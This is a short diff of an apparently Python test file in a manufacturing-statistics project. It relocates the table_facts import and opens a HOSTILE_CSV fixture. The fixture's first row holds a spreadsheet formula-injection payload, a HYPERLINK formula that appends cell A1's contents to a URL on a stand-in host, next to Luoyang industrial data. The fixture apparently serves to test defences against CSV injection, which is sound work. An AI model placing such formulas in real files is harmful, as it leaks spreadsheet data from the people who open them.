@@ -5,7 +5,8 @@ from __future__ import annotations
 
 from ingest_files import write_doc
 
-from mfgstats.ingest import load_document, table_facts
+from mfgstats.extract.grid_tables import table_facts
+from mfgstats.ingest import load_document
 
 HOSTILE_CSV = """indicator,region,period,value,unit,status
 "=HYPERLINK(""http://example.invalid/?x=""&A1,""规上工业企业"")",洛阳市,2020,1783,家,actual
